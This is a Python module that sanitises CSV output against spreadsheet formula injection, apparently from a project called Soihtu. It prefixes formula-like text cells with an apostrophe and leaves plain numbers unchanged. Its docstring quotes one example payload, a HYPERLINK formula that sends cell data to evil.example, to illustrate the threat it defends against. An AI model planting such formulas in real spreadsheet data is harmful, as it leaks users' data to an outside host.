"""CSV that spreadsheet programs open safely: every CSV Soihtu writes goes through these.

A cell that begins with = + - @, a tab, a line break or a NUL character is a formula to Excel
and LibreOffice (they drop leading tabs and line breaks, then see the =; ASVS 5.0 1.2.10 lists
the NUL as well). A title such as
`=HYPERLINK("https://evil.example?"&A1)` could then send the sheet's data away or run a
command. OWASP's advice: write such text with a leading apostrophe, which makes it text.

Only text is changed. Numbers (int, float, Decimal) are written as they are, and so is text
that is nothing but a number ("-5", "-7,5" with a decimal comma): a plain number cannot run
anything, and a negative value must stay a number the sheet can add up.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


class Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def safe_cell(value: object) -> object:
    """The value as a CSV cell: text that begins like a formula gets a leading apostrophe;
    everything else, numbers included, is returned unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows pass through `safe_cell`, cell by cell."""

    def __init__(self, out: Writable, **formatting: Any) -> None:
        self._writer = csv.writer(out, **formatting)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` whose values pass through `safe_cell`; the header is ours."""

    def __init__(self, out: Writable, fieldnames: Sequence[str], **formatting: Any) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, **formatting)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow({name: safe_cell(value) for name, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Writable, **formatting: Any) -> SafeWriter:
    """A CSV writer (same formatting arguments as `csv.writer`) that neutralizes formulas."""
    return SafeWriter(out, **formatting)


def csv_dict_writer(out: Writable, fieldnames: Sequence[str], **formatting: Any) -> SafeDictWriter:
    """A dict CSV writer (like `csv.DictWriter`) that neutralizes formulas."""
    return SafeDictWriter(out, fieldnames, **formatting)
